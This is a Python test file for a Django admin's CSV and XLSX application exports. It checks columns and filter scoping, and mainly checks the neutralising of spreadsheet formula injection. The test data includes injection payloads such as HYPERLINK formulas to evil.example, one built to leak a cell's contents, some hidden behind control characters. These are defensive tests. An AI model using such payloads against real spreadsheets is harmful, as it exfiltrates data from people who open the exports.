"""CSV and XLSX exports: content, one column per question, formula neutralising, scope."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.http import StreamingHttpResponse

from forms.factories import ApplicationFormFieldFactory
from reviews.exports import neutralise_row

from .conftest import make_application

pytestmark = pytest.mark.django_db

LIST = "/admin/applications/"


def csv_rows(response):
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"].startswith('attachment; filename="applications-')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response):
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [
        [cell if cell is not None else "" for cell in row]
        for row in workbook.active.iter_rows(values_only=True)
    ]


def test_csv_export_has_one_column_per_question_and_the_users_rows(client, reviewer_a, apps):
    client.force_login(reviewer_a)
    header, *rows = csv_rows(client.get(LIST, {"export": "csv"}))
    assert header == [
        "Reference",
        "Submitted at (UK time)",
        "Programme",
        "Form",
        "Status",
        "Eligibility",
        "Applicant name",
        "Applicant email",
        "Full name",
        "Email address",
        "Why do you want to return?",
        "Your CV",
    ]
    assert [row[0] for row in rows] == ["CBSW-0001", "CBSW-0002"]
    first = dict(zip(header, rows[0], strict=True))
    assert first["Programme"] == "Come Back to Social Work"
    assert first["Status"] == "Received" and first["Eligibility"] == "Not assessed"
    assert first["Why do you want to return?"] == "To code again"
    assert first["Your CV"] == "cv.pdf"


def test_export_follows_the_listing_filters(client, reviewer_a, apps):
    client.force_login(reviewer_a)
    _, *rows = csv_rows(client.get(LIST, {"export": "csv", "status__exact": "eligible"}))
    assert [row[0] for row in rows] == ["CBSW-0002"]
    _, *rows = csv_rows(client.get(LIST, {"export": "csv", "q": "Lovelace"}))
    assert [row[0] for row in rows] == ["CBSW-0001"]


def test_export_filtered_to_another_programme_is_empty(client, reviewer_a, site, apps):
    client.force_login(reviewer_a)
    _, *rows = csv_rows(client.get(LIST, {"export": "csv", "programme": site["b"].pk}))
    assert rows == []
    _, *rows = csv_rows(
        client.get(LIST, {"export": "csv", "id__in": str(apps["b1"].pk), "pk": apps["b1"].pk})
    )
    assert "STEM-0001" not in [row[0] for row in rows]


def test_xlsx_export_matches_the_csv(client, reviewer_a, apps):
    client.force_login(reviewer_a)
    csv_content = csv_rows(client.get(LIST, {"export": "csv"}))
    assert xlsx_rows(client.get(LIST, {"export": "xlsx"})) == csv_content


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_would_run_as_formulas_are_neutralised(client, reviewer_a, site, prefix):
    payload = f'{prefix}HYPERLINK("https://evil.example","x")'
    make_application(site["form_a"], site["a"], name=payload, why=payload, reference="CBSW-0100")
    client.force_login(reviewer_a)
    header, row = csv_rows(client.get(LIST, {"export": "csv"}))
    record = dict(zip(header, row, strict=True))
    assert record["Applicant name"] == "'" + payload
    assert record["Why do you want to return?"] == "'" + payload
    _, xrow = xlsx_rows(client.get(LIST, {"export": "xlsx"}))
    assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in xrow)
    assert sum(str(cell).startswith("'") and "HYPERLINK" in str(cell) for cell in xrow) == 3


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise_row(["Ada", None, "=1+1", "-5", 3]) == ["Ada", "", "'=1+1", "'-5", "3"]


def test_the_characters_removed_from_cells_are_the_ones_the_xlsx_writer_refuses():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE as REFUSED_BY_OPENPYXL

    text = "Ada" + "".join(chr(code) for code in range(32))  # a letter first: no formula to defuse
    assert neutralise_row([text]) == [REFUSED_BY_OPENPYXL.sub("", text)]


# Issue 8, finding 1: a control character before "=" hid the formula from the check, then the
# XLSX writer stripped it and wrote the rest as a live formula.
HIDDEN_FORMULAS = {
    "Full name": "\x01=1+2",
    "Postcode": '\x08=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "Why do you want to return?": " =1+2",  # spreadsheets may trim leading spaces
}
DEFUSED = {
    "Full name": "'=1+2",
    "Postcode": '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "Why do you want to return?": "' =1+2",
}


@pytest.fixture
def hidden_formulas(site):
    ApplicationFormFieldFactory(page=site["form_a"], label="Postcode", field_type="singleline", sort_order=9)
    make_application(
        site["form_a"],
        site["a"],
        name=HIDDEN_FORMULAS["Full name"],
        why=HIDDEN_FORMULAS["Why do you want to return?"],
        reference="CBSW-0400",
        extra={"postcode": HIDDEN_FORMULAS["Postcode"], "your_cv": "#N/A"},
    )


def test_xlsx_export_holds_no_formula_when_a_control_character_hides_one(client, reviewer_a, hidden_formulas):
    client.force_login(reviewer_a)
    response = client.get(LIST, {"export": "xlsx"})
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
    assert not [name for name, xml in parts.items() if re.search(r"<(\w+:)?f[\s>/]", xml)]
    sheet = next(xml for name, xml in parts.items() if name.startswith("xl/worksheets/"))
    cell_types = set(re.findall(r"<c [^>]*?\bt=\"(\w+)\"", sheet))
    assert cell_types == {"inlineStr"}, "every cell is written as text (no formula, error or number)"
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    header, row = workbook.active.iter_rows(values_only=True)
    record = dict(zip(header, row, strict=True))
    assert {label: record[label] for label in DEFUSED} == DEFUSED
    assert record["Applicant name"] == "'=1+2"
    assert record["Your CV"] == "#N/A"


def test_csv_export_defuses_a_formula_hidden_behind_a_control_character(client, reviewer_a, hidden_formulas):
    client.force_login(reviewer_a)
    header, row = csv_rows(client.get(LIST, {"export": "csv"}))
    record = dict(zip(header, row, strict=True))
    assert {label: record[label] for label in DEFUSED} == DEFUSED
    assert record["Applicant name"] == "'=1+2"


def test_control_characters_do_not_break_the_xlsx(client, reviewer_a, site):
    make_application(site["form_a"], site["a"], name="Bell\x07 Name", reference="CBSW-0200")
    client.force_login(reviewer_a)
    _, row = xlsx_rows(client.get(LIST, {"export": "xlsx"}))
    assert "Bell Name" in row


def test_checkbox_answers_are_joined_and_numbers_kept(client, reviewer_a, site):
    make_application(
        site["form_a"], site["a"], reference="CBSW-0300", why=["Caring", "=cmd"], extra={"your_cv": 3}
    )
    client.force_login(reviewer_a)
    header, row = csv_rows(client.get(LIST, {"export": "csv"}))
    record = dict(zip(header, row, strict=True))
    assert record["Why do you want to return?"] == "Caring, =cmd"
    assert record["Your CV"] == "3"
